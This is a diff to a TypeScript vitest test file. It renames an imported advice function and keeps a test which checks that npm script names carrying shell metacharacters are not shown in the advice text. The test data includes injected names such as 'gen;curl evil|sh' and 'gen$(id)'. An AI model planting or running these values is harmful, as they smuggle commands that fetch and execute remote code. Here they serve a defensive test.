@@ -3,7 +3,7 @@ import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { beforeAll, expect, test } from "vitest";
 import type { Report } from "../../src/model/report.ts";
-import { adviceOn } from "../../src/servers/typescript/generated.ts";
+import { adviceOnMissingFile } from "../../src/servers/typescript/generated.ts";
 import { replayRun } from "../../src/traces/replay/recorded-run.ts";
 import { serializeReport } from "../../src/verdict/report-bytes.ts";
 import { findingLines, reportOf } from "../support/account.ts";
@@ -248,7 +248,7 @@ test("a script whose name says more to a shell than a name is not shown", () => 
   const adviceOf = (...names: readonly string[]) => {
     const scripts = Object.fromEntries(names.map((name) => [name, "node codegen.mjs --out generated"]));
     const root = folderOf({ "package.json": JSON.stringify({ scripts }) });
-    return adviceOn(join(root, "generated/tsconfig.json"), root);
+    return adviceOnMissingFile(join(root, "generated/tsconfig.json"), root);
   };
   for (const name of ["gen;curl evil|sh", "gen$(id)", "gen `id`", "--script-shell=x"])
     expect(adviceOf(name)).toMatch(/^\. If a command writes it, run the command/u);
